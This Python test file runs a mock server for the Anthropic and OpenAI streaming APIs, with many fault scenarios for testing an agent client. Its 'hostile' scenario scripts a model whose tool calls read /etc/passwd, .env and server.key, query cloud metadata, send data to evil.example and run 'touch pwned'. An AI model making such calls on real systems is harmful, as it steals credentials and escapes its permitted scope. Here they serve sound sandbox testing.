"""mock_server.py - both APIs of language models on 127.0.0.1, with their faults, for tests.

Written after the documentation of the APIs, not after Lintel: it checks each request as strictly as the
strictest real server would, and answers 400 to what one would refuse. Which scenario is played is the model's
name in the request, so that one server serves all tests at once. `Mock.requests` keeps what came.
"""
import http.server
import json
import re
import socket
import struct
import threading
import time
from email.utils import formatdate

HEADINGS = ['Current State Assessment', 'Data Modeling Strategy', 'Performance Optimization Guidelines',
            'Scaling and Architecture Framework', 'Migration and Evolution Strategy', 'Implementation Roadmap',
            'Backup and Recovery Planning', 'Technology-Specific Recommendations']


def report(extra=''):
    parts = ['### Database Architecture Analysis Report\n']
    for heading in HEADINGS:
        parts.append('**%s**\n- the table `orders` – größer 🐘 als nötig\n' % heading)
    return '\n'.join(parts) + '\n' + extra + '\nREPORT ENDS'


class Turn:
    """What the model says: texts and calls in order, and why it stops."""

    def __init__(self, *parts, stop=None, explanation=None):
        # str, or (id, name, input) with input a dict or raw text, or a dict: a block of the provider's own
        self.parts = parts
        self.explanation = explanation
        has_calls = any(isinstance(part, tuple) for part in parts)
        self.stop = stop or ('tools' if has_calls else 'end')


def pieces_of(text, size):
    return [text[i:i + size] for i in range(0, len(text), size)] or ['']


def raw(value):
    return value if isinstance(value, str) else json.dumps(value)


# ---- the wire ----

def anthropic_events(turn, size=7, pings=False, thinking=False):
    """[(name, data)] of one answer."""
    stops = {'tools': 'tool_use', 'end': 'end_turn', 'truncated': 'max_tokens', 'paused': 'pause_turn',
             'refused': 'refusal', 'window': 'model_context_window_exceeded'}
    events = [('message_start', {'type': 'message_start', 'message': {
        'id': 'msg_1', 'type': 'message', 'role': 'assistant', 'content': [], 'model': 'mock-model',
        'stop_reason': None, 'stop_sequence': None, 'usage': {'input_tokens': 100, 'output_tokens': 1}}})]
    blocks = list(turn.parts)
    index = 0
    if thinking:
        events += [('content_block_start', {'type': 'content_block_start', 'index': 0,
                                            'content_block': {'type': 'thinking', 'thinking': '', 'signature': ''}}),
                   ('content_block_delta', {'type': 'content_block_delta', 'index': 0,
                                            'delta': {'type': 'thinking_delta', 'thinking': 'Hm, größer?'}}),
                   ('content_block_delta', {'type': 'content_block_delta', 'index': 0,
                                            'delta': {'type': 'signature_delta', 'signature': 'SIGNED=='}}),
                   ('content_block_stop', {'type': 'content_block_stop', 'index': 0})]
        index = 1
    for part in blocks:
        if isinstance(part, str):
            start = {'type': 'text', 'text': ''}
            deltas = [{'type': 'text_delta', 'text': piece} for piece in pieces_of(part, size)]
        elif isinstance(part, dict):
            start, deltas = part, []
        else:
            start = {'type': 'tool_use', 'id': part[0], 'name': part[1], 'input': {}}
            text = raw(part[2])
            deltas = [{'type': 'input_json_delta', 'partial_json': ''}] + [
                {'type': 'input_json_delta', 'partial_json': piece} for piece in pieces_of(text, size)] if text != '{}' else []
        events.append(('content_block_start', {'type': 'content_block_start', 'index': index, 'content_block': start}))
        for delta in deltas:
            events.append(('content_block_delta', {'type': 'content_block_delta', 'index': index, 'delta': delta}))
            if pings:
                events.append(('ping', {'type': 'ping'}))
        events.append(('content_block_stop', {'type': 'content_block_stop', 'index': index}))
        index += 1
    delta = {'stop_reason': stops[turn.stop], 'stop_sequence': None}
    if turn.stop == 'refused':
        delta['stop_details'] = {'type': 'refusal', 'category': 'policy', 'explanation': turn.explanation}
    events.append(('message_delta', {'type': 'message_delta', 'delta': delta, 'usage': {'output_tokens': 50}}))
    events.append(('message_stop', {'type': 'message_stop'}))
    return events


def openai_events(turn, size=7, pings=False, thinking=False):
    stops = {'tools': 'tool_calls', 'end': 'stop', 'truncated': 'length', 'refused': 'content_filter'}

    def chunk(delta, finish=None, **more):
        return {'id': 'chatcmpl-1', 'object': 'chat.completion.chunk', 'created': 1, 'model': 'mock-model',
                'choices': [{'index': 0, 'delta': delta, 'finish_reason': finish}], **more}
    events = [(None, chunk({'role': 'assistant', 'content': None}))]
    if thinking:
        events.append((None, chunk({'reasoning_content': 'Hm'})))
    n_calls = 0
    for part in turn.parts:
        if isinstance(part, str):
            events += [(None, chunk({'content': piece})) for piece in pieces_of(part, size)]
        else:
            events.append((None, chunk({'tool_calls': [{'index': n_calls, 'id': part[0], 'type': 'function',
                                                        'function': {'name': part[1], 'arguments': ''}}]})))
            events += [(None, chunk({'tool_calls': [{'index': n_calls, 'function': {'arguments': piece}}]}))
                       for piece in pieces_of(raw(part[2]), size)]
            n_calls += 1
        if pings:
            events.append((':', None))
    if turn.stop == 'refused' and turn.explanation:
        events.append((None, chunk({'refusal': turn.explanation})))
    events.append((None, chunk({}, stops[turn.stop])))
    last = chunk({})
    last['choices'] = []
    last['usage'] = {'prompt_tokens': 100, 'completion_tokens': 50, 'total_tokens': 150}
    events.append((None, last))
    events.append((None, '[DONE]'))
    return events


def bytes_of(events, end='\n'):
    text = ''
    for name, data in events:
        if name == ':':
            text += ': keep alive' + end + end
            continue
        if name:
            text += 'event: ' + name + end
        text += 'data: ' + (data if isinstance(data, str) else json.dumps(data, ensure_ascii=False)) + end + end
    return text.encode()


# ---- what a request must be ----

class Refused(Exception):
    pass


def need(condition, what):
    if not condition:
        raise Refused(what)


def check_anthropic(headers, body):
    need(headers.get('content-type') == 'application/json', 'content-type')
    need(headers.get('anthropic-version') in ('2023-06-01', '2026-10-21'), 'anthropic-version')
    need(set(body) <= {'model', 'max_tokens', 'system', 'messages', 'tools', 'tool_choice', 'stream', 'cache_control',
                       'thinking', 'output_config', 'metadata', 'stop_sequences'},
         'unknown field: %s' % sorted(body))
    need(isinstance(body.get('max_tokens'), int) and body['max_tokens'] > 0, 'max_tokens')
    need(body.get('stream') is True, 'stream')
    for tool in body.get('tools', []):
        need(re.fullmatch('[a-zA-Z0-9_-]{1,128}', tool['name']), 'tool name')
        if 'type' not in tool:
            need(tool['input_schema']['type'] == 'object' and tool['description'], 'input_schema')
    messages = body['messages']
    need(messages and messages[0]['role'] == 'user', 'first message')
    need(messages[-1]['role'] == 'user' or messages[-1]['content'][-1]['type'] != 'text', 'prefill is not supported')
    calls = None
    for message in messages:
        content = message['content']
        need(isinstance(content, list) and content, 'empty content')
        kinds = [block['type'] for block in content]
        for block in content:
            need(block['type'] != 'text' or block['text'].strip(), 'text content blocks must be non-empty')
        if message['role'] == 'assistant':
            need(calls is None or not calls, 'tool_use without tool_result')
            calls = [block['id'] for block in content if block['type'] == 'tool_use']
            for block in content:
                if block['type'] == 'thinking':
                    need(block == {'type': 'thinking', 'thinking': 'Hm, größer?', 'signature': 'SIGNED=='},
                         'thinking was changed')
                if block['type'] == 'tool_use':
                    need(isinstance(block['input'], dict), 'tool_use.input')
        else:
            results = [block['tool_use_id'] for block in content if block['type'] == 'tool_result']
            need(kinds == sorted(kinds, key=lambda kind: kind != 'tool_result'), 'tool_result blocks must come first')
            if calls:
                need(results == calls, 'tool_result for each tool_use: %s %s' % (calls, results))
            else:
                need(not results, 'tool_result without tool_use')
            calls = None
    need(not calls, 'tool_use at the end')


def check_openai(headers, body):
    need(headers.get('content-type') == 'application/json', 'content-type')
    need(set(body) <= {'model', 'messages', 'tools', 'tool_choice', 'stream', 'stream_options', 'max_tokens',
                       'max_completion_tokens'}, 'unknown field')
    need(body.get('stream') is True and body['stream_options'] == {'include_usage': True}, 'stream')
    for tool in body.get('tools', []):
        need(tool['type'] == 'function' and re.fullmatch('[a-zA-Z0-9_-]{1,64}', tool['function']['name']), 'tool')
        need(tool['function']['parameters']['type'] == 'object', 'parameters')
    waiting = []
    need(body['messages'][0]['role'] == 'system', 'system message')
    for message in body['messages']:
        role = message['role']
        need(role in ('system', 'user', 'assistant', 'tool'), 'role')
        if role == 'tool':
            need(waiting and message['tool_call_id'] == waiting.pop(0), 'tool_call_id')
            continue
        need(not waiting, 'calls without results')
        if role == 'assistant':
            for call in message.get('tool_calls', []):
                need(call['type'] == 'function' and isinstance(json.loads(call['function']['arguments']), dict), 'call')
                waiting.append(call['id'])
            need(message.get('tool_calls') or message.get('content'), 'empty assistant message')
        else:
            need(isinstance(message['content'], str) and message['content'], 'content')
    need(not waiting, 'calls without results')


def results_of(body):
    """[(text, is_error)] of the newest results, in order."""
    results = []
    last = body['messages'][-1]
    if last['role'] == 'user' and isinstance(last['content'], list):
        for block in last['content']:
            if block['type'] == 'tool_result':
                results.append((block['content'], block.get('is_error', False)))
        return results
    for message in reversed(body['messages']):
        if message['role'] == 'user' and results:
            break
        if message['role'] == 'tool':
            results.insert(0, (message['content'].removeprefix('Error: '), message['content'].startswith('Error: ')))
        elif message['role'] != 'user':
            break
    return results


def turns_so_far(body):
    return sum(message['role'] == 'assistant' for message in body['messages'])


def all_text(body):
    return json.dumps(body, ensure_ascii=False)


# ---- scenarios: (mock, body, n) -> what is done; n counts the requests of this scenario and API from 0 ----

def echo(body):
    return ''.join('\nRESULT %s%s' % ('error: ' if is_error else '', text.replace('\n', ' | ')[:400])
                   for text, is_error in results_of(body))


def tools(mock, body, n):
    step = turns_so_far(body)
    if step == 0:
        return Turn('I look at the rules.', ('call_1', 'Read', {'file_path': '.claude/rules.md'}))
    if step == 1:
        mock.note(body, echo(body))
        return Turn(('call_2', 'Glob', {'pattern': '*.sql'}), ('call_3', 'Grep', {'pattern': 'größe', 'output_mode': 'content'}))
    return Turn(report(mock.noted(body) + echo(body)))


def hostile(mock, body, n):
    calls = [('Read', {'file_path': '../outside.txt'}), ('Read', {'file_path': '/etc/passwd'}), ('Read', {'file_path': '.env'}),
             ('Read', {'file_path': 'server.key'}), ('Read', {'file_path': 'link.txt'}),
             ('WebFetch', {'url': 'http://127.0.0.1:%d/secret' % mock.port, 'prompt': 'x'}),
             ('WebFetch', {'url': 'http://169.254.169.254/latest/meta-data/', 'prompt': 'x'}),
             ('WebFetch', {'url': 'https://evil.example/?data=1', 'prompt': 'x'}),
             ('WebFetch', {'url': 'file:///etc/passwd', 'prompt': 'x'}),
             ('Write', {'file_path': 'a.sql', 'content': 'x'}), ('Bash', {'command': 'touch pwned'}),
             ('Read', {'file_path': 'db/secret.sql'}), ('WebSearch', {'query': 'x'})]
    if turns_so_far(body) == 0:
        return Turn(*[('h_%d' % i, name, value) for i, (name, value) in enumerate(calls)])
    return Turn(report(echo(body)))


def truncated(mock, body, n):
    text = report()
    if turns_so_far(body) == 0:
        return Turn(text[:100], stop='truncated')
    if turns_so_far(body) == 1:
        return Turn(text[100:220], stop='truncated')
    return Turn(text[220:])


def truncated_call(mock, body, n):
    if body.get('max_tokens', 0) < 20000:
        return Turn(('c', 'Read', '{"file_path": ".cl'), stop='truncated')
    return Turn(report('MAX %d' % body['max_tokens']))


def broken_call(mock, body, n):
    if turns_so_far(body) == 0:
        return Turn(('c', 'Read', '{"file_path": '), stop='tools')
    return Turn(report(echo(body)))


def endless(mock, body, n):
    if n > 60:
        return Turn('gave up')
    return Turn(('e_%d' % n, 'Read', {'file_path': 'db/%d.sql' % n}))


def ends_when_told(mock, body, n):
    if 'No more tools' in all_text(body):
        return Turn(report('TOLD'))
    return Turn(('e_%d' % n, 'Read', {'file_path': 'db/%d.sql' % n}))


def repeats(mock, body, n):
    if turns_so_far(body) < 4:
        return Turn(('r_%d' % n, 'Glob', {'pattern': '*.sql'}))
    return Turn(report(echo(body)))


OWN_BLOCK = {'type': 'server_tool_use', 'id': 'srvtoolu_1', 'name': 'web_search', 'input': {'query': 'größe', 'n': [1, None]}}


def paused(mock, body, n):
    if turns_so_far(body) == 0:
        return Turn('I search.', OWN_BLOCK, stop='paused')
    return Turn(report('UNCHANGED' if body['messages'][-1]['content'][-1] == OWN_BLOCK else 'CHANGED'))


def empty(mock, body, n):
    if 'Please go on' in all_text(body):
        return Turn(report())
    return Turn('')


def window(mock, body, n):
    step = turns_so_far(body)
    if step == 0:
        return Turn(('w', 'Read', {'file_path': 'db/long.sql'}))
    if step == 1:
        return Turn(('w2', 'Glob', {'pattern': '*.md'}))
    if '[dropped to save room]' in all_text(body):
        return Turn(report())
    return Turn('', stop='window')


def status(code, error=None, times=None, headers=None, html=None):
    """Answers with this status, `times` times (always without it), then with a report."""
    def play(mock, body, n):
        if times is not None and n >= times:
            return Turn(report('AFTER %d' % n))
        return {'status': code, 'headers': headers or {}, 'html': html, 'message': error or 'the mock says %d' % code}
    return play


def fault(kind, times=None):
    def play(mock, body, n):
        turn = Turn(report('AFTER %d' % n))
        return turn if times is not None and n >= times else {'fault': kind, 'turn': turn}
    return play


def style(**options):
    def play(mock, body, n):
        return {'turn': tools(mock, body, n), **options}
    return play


def editor(mock, body, n):
    """Looks at a file that is open in an editor, and says what stood there."""
    if turns_so_far(body) == 0:
        return Turn('I look.', ('o', 'Read', {'file_path': 'migrations/0001_shop.sql'}))
    return Turn(report(echo(body)))


SCENARIOS = {
    'editor': editor,
    'report': lambda mock, body, n: Turn(report()),
    'tools': tools, 'thinking': style(thinking=True), 'pings': style(pings=True), 'bytes': style(chunk=1), 'crlf': style(end='\r\n'),
    'pieces': style(size=1), 'whole': style(size=10000), 'late': style(chunk=40, pause=0.002),
    'hostile': hostile, 'truncated': truncated, 'truncated-call': truncated_call, 'broken-call': broken_call,
    'endless': endless, 'ends-when-told': ends_when_told, 'repeats': repeats, 'paused': paused, 'empty': empty,
    'always-empty': lambda mock, body, n: Turn(''), 'window': window,
    'refusal': lambda mock, body, n: Turn('Well', stop='refused', explanation='I would rather not.'),
    '529-once': status(529, 'Overloaded', 1), '529': status(529, 'Overloaded'),
    '529-after': status(529, 'Overloaded', 1, {'retry-after': '1'}), '529-ms': status(529, 'Overloaded', 1, {'retry-after-ms': '300'}),
    '529-long': status(529, 'Overloaded', None, {'retry-after': '3600'}),
    '429-date': lambda mock, body, n: status(429, 'slow down', 1, {'retry-after': formatdate(time.time() + 2, usegmt=True)})(mock, body, n),
    '429-once': status(429, 'slow down', 1, {'retry-after': '1'}), '429': status(429, 'slow down'),
    '429-long': status(429, 'spend limit', None, {'retry-after': '3600'}), '500-once': status(500, 'oops', 1),
    '401': status(401, 'invalid x-api-key'), '401-echo': status(401, 'the key THEKEY is wrong'),
    '404': status(404, 'model not found'), '400': status(400, 'tools.0: bad'), '413': status(413, html='<html>Too large</html>'),
    '302': status(302, headers={'location': 'http://127.0.0.1:1/'}),
    'no-retry': status(503, 'gone for good', None, {'x-should-retry': 'false'}),
    'error': fault('error'), 'error-once': fault('error', 1), 'cut': fault('cut'), 'cut-once': fault('cut', 1),
    'malformed': fault('malformed'), 'malformed-once': fault('malformed', 1), 'not-a-stream': fault('json'),
    'huge-event': fault('huge'), 'reset-once': fault('reset', 1), 'no-end': fault('no-end'),
    # Half of a report, and then nothing until the other side hangs up.
    'stalls': lambda mock, body, n: {'turn': Turn(report()), 'stall': True},
    'stalls-later': lambda mock, body, n: {'turn': Turn(report()), 'stall': True} if turns_so_far(body) else tools(mock, body, n),
    # Nothing at all, until the other side hangs up.
    'silent': lambda mock, body, n: {'turn': Turn(report()), 'stall': True, 'half': 0},
    '429-wait': status(429, 'slow down', None, {'retry-after': '45'}),
    'calls-slow': lambda mock, body, n: Turn(('s', 'mcp__slow__wait', {})) if turns_so_far(body) == 0 else Turn(report(echo(body))),
    'keyless': lambda mock, body, n: Turn(report('NO KEY CAME' if not mock.keys[-1] else 'A KEY CAME')),
    'escapes': lambda mock, body, n: Turn(report('A\x1b[31mRED\u202eB\u200b postgres://u:REPORTPASS1@h/x')),
}


def cache_refused(mock, body, n):
    if 'cache_control' in all_text(body):
        return {'status': 400, 'headers': {}, 'html': None, 'message': 'system.0.cache_control: Extra inputs are not permitted'}
    return Turn(report())


SCENARIOS['cache-refused'] = cache_refused


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = 'HTTP/1.1'

    def log_message(self, *arguments):
        pass

    def do_GET(self):
        self.server.mock.gets.append(self.path)
        self.send_response(200)
        self.send_header('content-length', '6')
        self.end_headers()
        self.wfile.write(b'SECRET')

    def do_POST(self):
        mock = self.server.mock
        body = json.loads(self.rfile.read(int(self.headers['content-length'])))
        headers = {name.lower(): value for name, value in self.headers.items()}
        is_anthropic = self.path == '/v1/messages'
        with mock.lock:
            key = (is_anthropic, body['model'])
            n = mock.counts.get(key, 0)
            mock.counts[key] = n + 1
            mock.requests.append((self.path, headers, body))
            mock.keys.append(headers.get('x-api-key') or headers.get('authorization'))
        try:
            need(self.path in ('/v1/messages', '/v1/chat/completions'), 'path')
            (check_anthropic if is_anthropic else check_openai)(headers, body)
            scenario = SCENARIOS[body['model']]
        except (Refused, KeyError, ValueError, TypeError, IndexError) as problem:
            mock.refused.append('%s %s: %r' % (self.path, body.get('model'), problem))
            self.answer_error(is_anthropic, 400, {}, None, 'refused by the mock: %r' % problem)
            return
        act = scenario(mock, body, n)
        if isinstance(act, Turn):
            act = {'turn': act}
        if 'status' in act:
            message = act['message'].replace('THEKEY', headers.get('x-api-key') or headers.get('authorization', '')[7:])
            self.answer_error(is_anthropic, act['status'], act['headers'], act['html'], message)
        else:
            self.stream(is_anthropic, act)

    def answer_error(self, is_anthropic, code, headers, html, message):
        types = {401: 'authentication_error', 404: 'not_found_error', 429: 'rate_limit_error', 529: 'overloaded_error'}
        error = {'type': types.get(code, 'api_error'), 'message': message}
        answer = html or json.dumps({'type': 'error', 'error': error, 'request_id': 'req_1'} if is_anthropic
                                    else {'error': {**error, 'code': code}})
        self.send_response(code)
        self.send_header('content-type', 'text/html' if html else 'application/json')
        self.send_header('content-length', str(len(answer)))
        for name, value in headers.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(answer.encode())

    def stream(self, is_anthropic, act):
        options = {name: act[name] for name in ('size', 'pings', 'thinking') if name in act}
        events = (anthropic_events if is_anthropic else openai_events)(act['turn'], **options)
        data = bytes_of(events, act.get('end', '\n'))
        kind = act.get('fault')
        half = data[:len(data) // 2].rfind(b'\n\n') + 2
        if kind == 'json':
            answer = b'{"message": "this is not a stream"}'
            self.send_response(200)
            self.send_header('content-type', 'application/json')
            self.send_header('content-length', str(len(answer)))
            self.end_headers()
            self.wfile.write(answer)
            return
        if kind == 'error':
            error = {'type': 'overloaded_error', 'message': 'Overloaded in the middle'}
            wrapped = {'type': 'error', 'error': error} if is_anthropic else {'error': error}
            data = data[:half] + bytes_of([('error' if is_anthropic else None, wrapped)])
        elif kind == 'malformed':
            data = data[:half] + b'data: {"type": "content_blo\n\n' + data[half:]
        elif kind == 'huge':
            data = data[:half] + b'data: ' + b'x' * (9 << 20) + b'\n\n'
        elif kind == 'no-end':  # everything but the event that says it is over
            data = bytes_of(events[:-1])
        elif kind in ('cut', 'reset'):
            data = data[:half + 11]
        self.send_response(200)
        self.send_header('content-type', 'text/event-stream')
        self.send_header('transfer-encoding', 'chunked')
        self.end_headers()
        chunk = act.get('chunk', 4096)
        try:
            if act.get('stall'):
                half = act.get('half', half)
                if half:
                    self.wfile.write(b'%x\r\n%s\r\n' % (half, data[:half]))
                self.wfile.flush()
                while self.connection.recv(1):
                    pass
                self.close_connection = True
                return
            for at in range(0, len(data), chunk):
                part = data[at:at + chunk]
                self.wfile.write(b'%x\r\n%s\r\n' % (len(part), part))
                self.wfile.flush()
                if act.get('pause'):
                    time.sleep(act['pause'])
            if kind == 'reset':  # the connection is torn down, not closed
                self.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0))
            if kind in ('cut', 'reset'):
                self.close_connection = True
                return
            self.wfile.write(b'0\r\n\r\n')
        except OSError:  # the client has heard enough
            self.close_connection = True


class Server(http.server.ThreadingHTTPServer):
    daemon_threads = True

    def handle_error(self, request, client_address):
        pass


class Mock:
    def __init__(self):
        self.lock = threading.Lock()
        self.counts, self.notes = {}, {}
        self.requests, self.refused, self.gets, self.keys = [], [], [], []
        self.server = Server(('127.0.0.1', 0), Handler)
        self.server.mock = self
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def note(self, body, text):
        self.notes[self.who(body)] = text

    def noted(self, body):
        return self.notes.get(self.who(body), '')

    @staticmethod
    def who(body):
        return body['model'], 'max_tokens' in body and isinstance(body.get('system'), list)


if __name__ == '__main__':
    mock = Mock()
    print('http://127.0.0.1:%d  scenarios: %s' % (mock.port, ' '.join(sorted(SCENARIOS))), flush=True)
    threading.Event().wait()
